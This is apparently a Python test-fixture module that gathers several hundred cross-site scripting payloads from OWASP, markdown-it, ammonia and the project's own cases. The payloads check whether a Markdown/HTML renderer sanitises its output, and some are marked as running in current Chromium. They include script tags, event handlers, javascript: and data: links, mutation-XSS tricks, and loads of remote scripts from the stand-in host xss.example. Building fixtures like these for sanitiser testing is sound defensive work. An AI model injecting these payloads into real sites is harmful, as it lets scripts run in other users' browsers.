r"""Texts by which scripts are slipped into pages, by where they are known from.

- OWASP: "XSS Filter Evasion Cheat Sheet", cheatsheetseries.owasp.org, which goes back to RSnake's.
- MARKDOWN_IT: what markdown-it tests its links and images with (test/fixtures/markdown-it/xss.txt).
- AMMONIA: what ammonia, which nh3 is the Python face of, and nh3 itself test their cleaning with (src/lib.rs, tests/test_nh3.py).
- MARKDOWN: links, pictures and references as Markdown has them, with what browsers are lenient about in addresses.
- OURS: what this renderer does beside: mentions, tables, highlighted code.

`HIT` stands for a call that a page would notice; hosts are such as there are none, and what was loaded from one is in the text
itself where a browser takes that. LIVE are those of OWASP that do run in a present Chromium where nothing holds them up: who tests
with these texts has to see these run first.
"""

from collections.abc import Mapping

ENTITIES = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
PADDED = "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058"
HEX = "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"

LIVE: Mapping[str, str] = {
    "script": "<SCRIPT>HIT</SCRIPT>",
    "script from elsewhere": "<SCRIPT SRC=data:text/javascript,HIT></SCRIPT>",
    "malformed a": '<a onmouseover="HIT">xxs link</a>',
    "malformed a without quotes": "<a onmouseover=HIT>xxs link</a>",
    "malformed img": '<IMG """><SCRIPT>HIT</SCRIPT>">',
    "img with a handler": '<IMG SRC=# onmouseover="HIT">',
    "img without a source": '<IMG onmouseover="HIT">',
    "on error": '<IMG SRC=/ onerror="HIT"></img>',
    "on error, encoded": f'<img src=x onerror="{PADDED}HIT">',
    "slash for a space": "<SCRIPT/XSS SRC=data:text/javascript,HIT></SCRIPT>",
    "extraneous brackets": "<<SCRIPT>HIT;//\\<</SCRIPT>",
    "end of a title": "</TITLE><SCRIPT>HIT;</SCRIPT>",
    "end of a script": "</script><script>HIT;</script>",
    "svg": "<svg/onload=HIT>",
    "body": "<BODY ONLOAD=HIT>",
    "link": '<A HREF="javascript:HIT">XSS</A>',
    "link by entities": f"<a href={ENTITIES}HIT>XSS</a>",
    "link by entities without semicolons": f"<a href={PADDED}HIT>XSS</a>",
    "link by hexadecimal entities": f"<a href={HEX}HIT>XSS</a>",
    "link with a tab": '<a href="jav\tascript:HIT">XSS</a>',
    "link with an encoded tab": '<a href="jav&#x09;ascript:HIT">XSS</a>',
    "link with an encoded line feed": '<a href="jav&#x0A;ascript:HIT">XSS</a>',
    "link with an encoded carriage return": '<a href="jav&#x0D;ascript:HIT">XSS</a>',
    "link with control characters before it": '<a href=" &#14;  javascript:HIT">XSS</a>',
    "link with many attributes": "<a aa aaa aaaa aaaaa aaaaaa aaaaaaa href=j&#97v&#97script:HIT>ClickMe",
    "link by named entities": '<a href="javascript&colon;HIT">XSS</a>',
    "link in a form": '<form><a href="javascript:HIT">X',
    "button of a form": "<form><button formaction=javascript&colon;HIT>CLICKME",
    "input with a handler": "<input/onmouseover=HIT>",
    "frame": '<IFRAME SRC="javascript:parent.hit(NUMBER)"></IFRAME>',
    "frame with a handler": '<IFRAME SRC=# onmouseover="HIT"></IFRAME>',
    "frame of data": "<iframe/src=\"data:text/html,<svg onload=top.postMessage(NUMBER,'*')>\"></iframe>",
    "frame of encoded data": (
        "<iframe src=\"data:text/html,%3Csvg%20onload%3Dtop.postMessage(NUMBER,'*')%3E\"></iframe>"
    ),
    "polyglot": (
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+"
        "HIT;//'>"
    ),
    "quotes that end": '"><img src="x:x" onerror="HIT">',
    "quotes that end and a script": '"></SCRIPT>">\'><SCRIPT>HIT</SCRIPT>',
    "img that evaluates itself": "<img src=x:HIT onerror=eval(src.slice(2))>",
    "handler with escapes": r'<img src="x:gif" onerror="window[&quot;h\u0069t&quot;](NUMBER)"></img>',
    "spaces about the equals sign": '<Img src = x onerror = "HIT">',
    "video": '<Video> <source onerror = "HIT"></video>',
    "script with a broken end": "<script x> HIT </script 1=2>",
    "script by writing": '<SCRIPT>document.write("<SCRI");</SCRIPT>PT>HIT</SCRIPT>',
    "quotes that hide a source": '<SCRIPT a=">" SRC="data:text/javascript,HIT"></SCRIPT>',
    "quotes that hide a source twice": '<SCRIPT "a=\'>\'" SRC="data:text/javascript,HIT"></SCRIPT>',
    "details": "<details open ontoggle=HIT>x</details>",
    "in focus": "<input autofocus onfocus=HIT>",
    "title that looks like a handler": '<img src="/" =_=" title="onerror=\'HIT\'">',
    "obfuscated": "<svg onload=(hit)(NUMBER)>",
    "obfuscated by an array": "<svg onload=[NUMBER].find(hit)>",
    "obfuscated by a name": "<svg onload=self[/hi/.source+/t/.source](NUMBER)>",
}
OWASP: Mapping[str, str] = {
    **LIVE,
    "img with an empty source": '<IMG SRC= onmouseover="HIT">',
    "slashes for spaces": "<img/*%00/src=x/%00*/onerror='HIT'>",
    "grave accents": '<SCRIPT a=`>` SRC="data:text/javascript,HIT"></SCRIPT>',
    "marquee": "<marquee onstart=HIT>x</marquee>",
    "img": '<IMG SRC="javascript:HIT;">',
    "img without quotes": "<IMG SRC=javascript:HIT>",
    "img in capitals": "<IMG SRC=JaVaScRiPt:HIT>",
    "img by entities": f"<IMG SRC={ENTITIES}HIT>",
    "img by entities without semicolons": f"<IMG SRC={PADDED}HIT>",
    "img by hexadecimal entities": f"<IMG SRC={HEX}HIT>",
    "img with a tab": '<IMG SRC="jav\tascript:HIT;">',
    "img with an encoded line feed": '<IMG SRC="jav&#x0A;ascript:HIT;">',
    "img with a null": '<IMG SRC="java&#0;script:HIT">',
    "odd characters after a handler": "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=HIT>",
    "no end of a script": "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "no scheme": "<SCRIPT SRC=//xss.example/.j>",
    "half open": '<IMG SRC="`<javascript:HIT>`"',
    "double open": "<iframe src=http://xss.example/scriptlet.html <",
    "escaped escapes": '\\";HIT;//',
    "input image": '<INPUT TYPE="IMAGE" SRC="javascript:HIT;">',
    "body image": '<BODY BACKGROUND="javascript:HIT">',
    "dynsrc": '<IMG DYNSRC="javascript:HIT">',
    "lowsrc": '<IMG LOWSRC="javascript:HIT">',
    "list style": '<STYLE>li {list-style-image: url("javascript:HIT");}</STYLE><UL><LI>XSS</br>',
    "vbscript": "<IMG SRC='vbscript:HIT'>",
    "livescript": '<IMG SRC="livescript:HIT">',
    "template of a constructor": r"Set.constructor`HIT\x28document.domain\x29",
    "bgsound": '<BGSOUND SRC="javascript:HIT;">',
    "script in a size": '<BR SIZE="&{HIT}">',
    "style sheet": '<LINK REL="stylesheet" HREF="javascript:HIT;">',
    "style sheet from elsewhere": '<LINK REL="stylesheet" HREF="http://xss.example/xss.css">',
    "import": "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "meta link": '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
    "moz binding": '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
    "broken import": "<STYLE>@im\\port'\\ja\\vasc\\ript:HIT';</STYLE>",
    "expression": '<IMG STYLE="xss:expr/*XSS*/ession(HIT)">',
    "expression in parts": "exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression(HIT)'>",
    "style as script": '<STYLE TYPE="text/javascript">HIT;</STYLE>',
    "background of a class": '<STYLE>.XSS{background-image:url("javascript:HIT");}</STYLE><A CLASS=XSS></A>',
    "unknown element": '<XSS STYLE="xss:expression(HIT)">',
    "behaviour": '<XSS STYLE="behavior: url(xss.htc);">',
    "seven bits": "¼script¾HIT¼/script¾",
    "refresh": '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:HIT;">',
    "refresh to data": (
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'
    ),
    "refresh with two addresses": '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:HIT;">',
    "refresh by entities": '<meta content="&NewLine; 1 &NewLine;; JAVASCRIPT&colon; HIT" http-equiv="refresh"/>',
    "frameset": '<FRAMESET><FRAME SRC="javascript:HIT;"></FRAMESET>',
    "table": '<TABLE BACKGROUND="javascript:HIT">',
    "cell": '<TABLE><TD BACKGROUND="javascript:HIT">',
    "div": '<DIV STYLE="background-image: url(javascript:HIT)">',
    "div by code points": (
        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070"
        "\\0074\\003aHIT'\\0029\">"
    ),
    "div by expression": '<DIV STYLE="width: expression(HIT);">',
    "conditional comment": "<!--[if gte IE 4]>\n<SCRIPT>HIT;</SCRIPT>\n<![endif]-->",
    "base": '<BASE HREF="javascript:HIT;//">',
    "object": '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    "object of a script": '<object data="javascript:HIT">',
    "object by class": (
        '<OBJECT CLASSID="clsid:333C7BC4-460F-11D0-BC04-0080C7055A83"><PARAM NAME="DataURL" VALUE="javascript:HIT"></OBJECT>'
    ),
    "embed": '<EMBED SRC="http://xss.example/xss.swf" AllowScriptAccess="always"></EMBED>',
    "embed of an svg": (
        "<EMBED SRC=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='HIT'/>\" "
        'type="image/svg+xml" AllowScriptAccess="always"></EMBED>'
    ),
    "xml island": '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:HIT"></B></I></XML><SPAN DATASRC="#xss"></SPAN>',
    "html and time": (
        '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><t:set attributeName="innerHTML" '
        'to="XSS<SCRIPT DEFER>HIT</SCRIPT>"></BODY></HTML>'
    ),
    "server side include": "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT>HIT</SCRIPT>'\"-->",
    "php": "<? echo('<SCR)'; echo('IPT>HIT</SCRIPT>'); ?>",
    "cookie": '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>HIT</SCRIPT>">',
    "utf-7": (
        '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>'
        "+ADw-SCRIPT+AD4-HIT;+ADw-/SCRIPT+AD4-"
    ),
    "address by number": '<A HREF="http://1113982867/">XSS</A>',
    "address in mixed encoding": '<A HREF="h \ntt  p://6\t6.000146.0x7.147/">XSS</A>',
    "address without a scheme": '<A HREF="//xss.example/">XSS</A>',
    "applet": '<applet code="javascript:HIT;">',
    "isindex": "<isindex type=image src=1 onerror=HIT>",
    "script of an svg": "<svg><script xlink:href=data&colon;,HIT></script",
    "frame by entities": "<iframe src=javascript&colon;HIT>",
    "style that ends early": "<style>//*{x:expression(HIT)}//<style></style>",
    "encoded brackets": "&lt;script&gt;HIT&lt;/script&gt; &#60script&#62HIT&#x3C/script&#x3e",
    "brackets without semicolons": "&ltscript&gtHIT&LTscript&GT",
    "escaped brackets": r"\x3cscript\x3eHIT\u003c/script\u003e %3Cscript%3EHIT%3C/script%3E",
}
MARKDOWN_IT: Mapping[str, str] = {
    "link to a script": "[xss link](javascript:HIT)",
    "link in capitals": "[xss link](JAVASCRIPT:HIT)",
    "vbscript": "[xss link](vbscript:HIT)",
    "vbscript in capitals": "[xss link](VBSCRIPT:HIT)",
    "file": "[xss link](file:///123)",
    "entities that end": "[xss link](&#34;&#62;&#60;script&#62;HIT&#60;/script&#62;)",
    "entity for a letter": "[xss link](&#74;avascript:HIT)",
    "entity of an entity": "[xss link](&#x26;#74;avascript:HIT)",
    "escaped entity": "[xss link](\\&#74;avascript:HIT)",
    "angle brackets": "[xss link](<javascript:HIT>)",
    "entity for a colon": "[xss link](javascript&#x3A;HIT)",
    "data": "[xss link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)",
    "image of a script": "![xss link](javascript:HIT)",
    "image of data": "![](data:image/svg+xml,<svg/onload=HIT>)",
    "autolink by entities": "<javascript&#x3A;HIT>",
    "autolink": "<javascript:HIT>",
    "address by entities": "javascript&#x3A;HIT",
    "address": "javascript:HIT",
    "reference": "[test]: javascript:HIT\n\n[test]",
    "language of a block": '```js&#32;"><svg/onload=HIT>\ntest1\n```',
    "language with a form feed": "```js&#x0C;custom-class\ntest2\n```",
}
AMMONIA: Mapping[str, str] = {
    "script": "an <script>HIT</script> example",
    "handler": 'an <a onclick="HIT" href="http://xss.example">evil</a> example',
    "link to a script": 'an <a href="javascript:HIT">evil</a> example',
    "link by entities": f'<a href="{HEX}HIT">Click me!</a>',
    "unclosed": "<b>AWESOME!<svg onload=HIT>",
    "object": '<span data="javascript:HIT">Test</span><object data="javascript:HIT"></object>M',
    "unknown elements": "<bad><evil onclick=HIT>a</evil>b</bad>",
    "quotes in an attribute": "<b title='\"onclick=HIT'>contents</b>",
    "content of a script": '<script type="text/javascript"><a>HIT</a></script>',
    "on error": "<b><img src='' onerror='HIT'>I'm not trying to XSS you</b>",
    "style beside a script": "<script>HIT</script><style>a { background: #fff }</style>",
    "style attribute": "<span style='color: red; background: url(javascript:HIT)'>T</span>",
    "text that ends a call": 'Robert"); HIT;//',
    # Advisories of ammonia: texts that change their meaning when they are read a second time.
    "svg style": "<svg><style><img src=x onerror=HIT></style></svg>",
    "math in a table": "<math><mi><table><mglyph><style><img src=x onerror=HIT></style></table></mi></math>",
    "math annotation": "<math><annotation-xml encoding='text/html'><style><img src=x onerror=HIT></style></math>",
    "no script": '<noscript><p title="</noscript><img src=x onerror=HIT>">',
    "comment": "<!--><img src=x onerror=HIT>-->",
    "comment that ends oddly": "<!-- --!><img src=x onerror=HIT> -->",
    "form in a form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>",
    "template": "<template><img src=x onerror=HIT></template>",
    "select": "<select><template><style><!--</style><a rel='--></style></template><img src=x onerror=HIT>'>",
}
MARKDOWN: Mapping[str, str] = {
    "title of a reference": '[a]: https://ok.example/ "\\"onmouseover=HIT x=\\""\n\n[a]',
    "reference in angle brackets": "[a]: <javascript:HIT>\n\n[a][]",
    "reference by entities": "[x][j]\n\n[j]: j&#97;vascript&colon;HIT",
    "link in a link": "[[a](javascript:HIT)](https://ok.example)",
    "link in a picture": "![[a](javascript:HIT)](javascript:HIT)",
    "picture in a link": "[![a](https://img.example.org/none.png)](javascript:HIT)",
    "quotes by entities": "[a](https://ok.example/&quot;onmouseover=&quot;HIT)",
    "quotes by per cent": "[a](https://ok.example/%22onmouseover=%22HIT)",
    "autolink with a quote": '<https://ok.example/"onmouseover=HIT>',
    "address with a quote": 'https://ok.example/"onmouseover=HIT',
    "address that a tag follows": 'https://ok.example/"><svg/onload=HIT>',
    "separator before a scheme": "[a](\u2028javascript:HIT)",
    "soft hyphen in a scheme": "[a](java\u00adscript:HIT)",
    "override in a scheme": "[a](javascript\u202e:HIT)",
    "override about a link": "\u202e[a](javascript:HIT)\u202c",
    "byte order mark": "\ufeff[a](javascript:HIT)",
    "no scheme": "[a](//xss.example)",
    "backslashes": "[a](\\\\xss.example)",
    "scheme without slashes": "[a](https:javascript:HIT)",
    "name and host": "[a](http://javascript:HIT@ok.example)",
    "mention of a script": "[a](member:javascript:HIT)",
    "mention in capitals": '[a](MEMBER:"><svg onload=HIT>)',
    "mail with a tag": "[a](mailto:x@y.example?subject=%3Csvg%20onload%3DHIT%3E)",
    "data": "[a](data:text/html,<script>HIT</script>)",
    "picture of data": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9SElUPg==)",
    "svg link": '<svg><a xlink:href="javascript:HIT"><text>x</text></a></svg>',
    "svg animation": '<svg><a><animate attributeName="href" values="javascript:HIT"/><text>x</text></a></svg>',
    "svg by use": '<svg><use href="data:image/svg+xml,<svg id=x onload=HIT></svg>#x"/></svg>',
    "math link": '<math><maction actiontype="statusline" xlink:href="javascript:HIT">x</maction></math>',
    "title by entities": '[a](https://ok.example "&quot;><svg onload=HIT>")',
    "picture that goes on": '![a](https://img.example.org/a.svg#"><svg onload=HIT>)',
    "stricken": "~~[a](javascript:HIT)~~",
    "in a table": "|[a](javascript:HIT)|\n|-|",
    "in a heading": "[a](javascript:HIT)\n===",
    "source": "[a](view-source:javascript:HIT)",
    "blob": "[a](blob:https://ok.example/x)",
    "host that is none": '[a](https://[::1"onmouseover=HIT])',
    "nested beyond measure": "[" * 200 + "a" + "](javascript:HIT)" * 200,
    "quoted beyond measure": ">" * 200 + "<svg onload=HIT>",
    "style that is read twice": '<svg></p><style><a title="</style><img src=x onerror=HIT>">',
    "paragraph in math": "<math></p><style><!--</style><img title='--&gt;&lt;img src=x onerror=HIT&gt;'>",
    "text area": "<textarea><p title='</textarea><img src=x onerror=HIT>'></textarea>",
}
OURS: Mapping[str, str] = {
    "mention": '[@a](member:"onclick="HIT)',
    "name in a mention": "[@<img src=x onerror=HIT>](member:x)",
    "cell of a table": "|a|\n|-|\n|<img src=x onerror=HIT>|",
    "alignment of a table": '|a|\n|:-" onclick=HIT:|\n|b|',
    "title of a link": "[a](https://ok.example/ \"' onmouseover=HIT '\")",
    "address that ends": '[a](https://ok.example/"onmouseover="HIT)',
    "alternative of a picture": '![" onerror=HIT x="](https://img.example.org/none.png)',
    "picture that ends": '![a](https://img.example.org/a.png"onerror="HIT)',
    "picture and title": '![a](https://img.example.org/a.png "\'onerror=HIT")',
    "code": "`<svg onload=HIT>`",
    "block of code": "```html\n<svg onload=HIT>\n```",
    "heading": "# <svg onload=HIT>",
    "line separator": "[a](java\u2028script:HIT)",
    "zero width": "[a](\u200bjavascript:HIT)",
    "full width": "[a](\uff4aavascript:HIT) \uff1cscript\uff1eHIT\uff1c/script\uff1e",
    "right to left": "\u202e<script>HIT</script>",
    "html between": "*a*<svg/onload=HIT>*b*",
    "html block": "<div>\n\n<script>HIT</script>\n\n</div>",
    "process": "<?php HIT ?>",
    "declaration": "<!DOCTYPE html [<!ENTITY x '<script>HIT</script>'>]>&x;",
    "cdata": "<![CDATA[<script>HIT</script>]]>",
}
EVERY: Mapping[str, str] = {
    f"{source}: {name}": text
    for source, texts in (
        ("owasp", OWASP),
        ("markdown-it", MARKDOWN_IT),
        ("ammonia", AMMONIA),
        ("markdown", MARKDOWN),
        ("ours", OURS),
    )
    for name, text in texts.items()
}


def armed(text: str, number: int) -> str:
    """The text with a call by which a page knows it again."""
    return text.replace("HIT", f"hit({number})").replace("NUMBER", str(number))
